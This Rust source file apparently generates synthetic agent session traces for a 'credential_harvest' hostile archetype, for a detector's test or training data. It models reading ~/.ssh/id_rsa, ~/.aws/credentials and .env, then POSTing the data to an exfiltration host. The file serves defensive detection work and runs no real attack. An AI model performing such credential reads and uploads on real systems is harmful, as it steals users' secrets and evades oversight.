//! Hostile archetype `credential_harvest`: reads credential and key files
//! (~/.ssh/id_rsa, ~/.aws/credentials, .env, ...) through the read tool or
//! the fs shim, then POSTs to an unknown public host.

use super::{palette as p, Archetype, Gen, Label, Session, Span};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct CredentialHarvestParams {
    /// Benign reads before harvesting.
    pub warmup: Span,
    /// Sensitive files read.
    pub sensitive_reads: Span,
    /// Gap between harvest calls (ms), uniform.
    pub gap_ms: Span,
    /// Fraction of sensitive reads through the fs shim rather than the read tool.
    pub via_fs_fraction: f64,
    /// Uploads after the reads.
    pub uploads: Span,
    /// Upload body size (bytes).
    pub upload_bytes: Span,
}

impl Default for CredentialHarvestParams {
    fn default() -> Self {
        CredentialHarvestParams {
            warmup: [0, 8],
            sensitive_reads: [2, 6],
            gap_ms: [20, 1500],
            via_fs_fraction: 0.4,
            uploads: [1, 3],
            upload_bytes: [500, 20_000],
        }
    }
}

pub struct CredentialHarvest(pub CredentialHarvestParams);

impl Archetype for CredentialHarvest {
    fn name(&self) -> &'static str {
        "credential_harvest"
    }
    fn label(&self) -> Label {
        Label::Hostile
    }
    fn describe(&self) -> &'static str {
        "reads ~/.ssh, ~/.aws, .env and similar, then POSTs to an unknown public host."
    }
    fn generate(&self, rng: &mut ChaCha20Rng, _index: u64, out: &mut Session) {
        let mut g = Gen::for_archetype(rng, out, self.name());
        let warm = g.span(self.0.warmup);
        for _ in 0..warm {
            let f = g.pick(p::PROJECT_FILES);
            g.read(f);
            g.wait_exp(1500.0);
        }
        harvest(&mut g, &self.0);
    }
}

/// The attack phase, shared with `mimicry` and `hostile_mix`.
pub fn harvest(g: &mut Gen<'_>, q: &CredentialHarvestParams) {
    g.out.meta.onset.get_or_insert(g.len() as u32);
    let n = g.span(q.sensitive_reads).max(1);
    for i in 0..n {
        if i > 0 {
            g.wait_span(q.gap_ms);
        }
        let path = g.pick(p::SENSITIVE_PATHS);
        if g.chance(q.via_fs_fraction) {
            g.fs("read", path);
        } else {
            g.read(path);
        }
    }
    let host = g.pick(p::EXFIL_HOSTS);
    let ups = g.span(q.uploads).max(1);
    for _ in 0..ups {
        g.wait_span(q.gap_ms);
        let b = g.span(q.upload_bytes);
        g.http(&format!("https://{host}/c"), "POST", b);
    }
}
